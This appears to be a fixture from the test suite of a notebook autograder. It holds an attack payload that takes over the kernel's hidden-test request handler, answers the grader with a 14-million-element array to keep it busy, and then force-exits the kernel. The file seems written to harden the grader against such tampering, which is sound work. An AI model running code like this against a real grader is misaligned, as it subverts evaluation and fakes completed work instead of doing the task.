from cases import first

ATTACK = """
import os, threading
kernel = get_ipython().kernel

def late():
    threading.Event().wait(0.3)
    os._exit(0)

async def last_words(stream, ident, parent):
    from course.checks.wire import pack
    import numpy as np
    reply = pack({"value": np.zeros(14_000_000)})
    kernel.session.send(stream, "hidden_test_reply", {"text": reply.text}, parent, ident, buffers=reply.buffers)
    stream.flush()
    threading.Thread(target=late).start()

kernel.shell_handlers["hidden_test_request"] = last_words
"""


def make(solved, outside):
    """Answers with an array that keeps the judge busy for a moment, and ends meanwhile."""
    return first(solved, ATTACK)
